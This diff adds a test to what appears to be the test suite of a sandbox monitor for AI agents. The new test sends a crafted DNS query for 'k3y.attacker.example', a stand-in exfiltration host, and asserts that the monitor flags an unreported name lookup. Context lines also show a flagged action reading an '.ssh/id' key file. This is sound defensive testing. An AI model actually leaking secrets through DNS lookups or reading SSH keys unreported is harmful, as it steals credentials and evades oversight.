@@ -6,6 +6,7 @@ import http.server
 import json
 import os
 import signal
+import socket
 import threading
 import time
 
@@ -212,3 +213,24 @@ def test_files_of_a_watched_folder_are_compared_as_well(tmp_path, origin):
         assert gap["action"]["target"].endswith("/.ssh/id")
         assert ".ssh" not in gap["verdict"]["reason"]
         assert len(sandbox.gaps()) == 1
+
+
+def test_names_that_are_asked_for_are_compared_where_the_proxy_resolves(tmp_path):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as free:
+        free.bind(("127.0.0.1", 0))
+        port = free.getsockname()[1]
+    name = b"\x03k3y\x08attacker\x07example\x00"
+    query = b"ab\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01"
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as upstream:
+        upstream.bind(("127.0.0.1", 0))
+        upstream.settimeout(20)
+        further = {"dns_port": port, "dns_upstream": f"127.0.0.1:{upstream.getsockname()[1]}"}
+        with Sandboxed(tmp_path, SUPPORT, further=further) as sandbox:
+            sandbox.tell({"step": "action", "run_id": "r", "tool": "lookup_order", "id": "c"})
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as agent:
+                agent.sendto(query, ("127.0.0.1", port))
+                asked, resolver = upstream.recvfrom(512)
+                upstream.sendto(asked[:2] + b"\x81\x83" + asked[4:], resolver)
+            gap = sandbox.gap()
+            assert gap["verdict"]["evidence"][0]["kind"] == "unreported name lookup"
+            assert gap["action"]["target"] == "k3y.attacker.example"
